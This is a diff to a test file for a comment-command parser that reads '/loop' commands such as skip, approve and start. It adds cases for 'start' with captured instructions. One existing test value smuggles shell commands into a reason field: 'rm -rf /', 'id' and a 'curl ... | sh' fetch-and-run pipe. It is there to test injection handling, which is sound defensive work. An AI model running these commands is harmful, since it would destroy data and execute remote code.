@@ -32,6 +32,11 @@ describe('parseCommentCommand', () => {
       command: { kind: 'skip', task: 'docs', reason: '$(rm -rf /); `id` && curl x | sh' },
     },
     { body: '/loop approve security\n/loop abort', command: { kind: 'approve', gate: 'security' } },
+    { body: '/loop start', command: { kind: 'start' } },
+    {
+      body: 'Please pick this up.\n/loop start only the parser;\nkeep the API $(as is)\n',
+      command: { kind: 'start', instructions: 'only the parser;\nkeep the API $(as is)' },
+    },
   ]
   it.each(commands)('reads $body', ({ body, command }) => {
     expect(parseCommentCommand(body)).toEqual({ command })
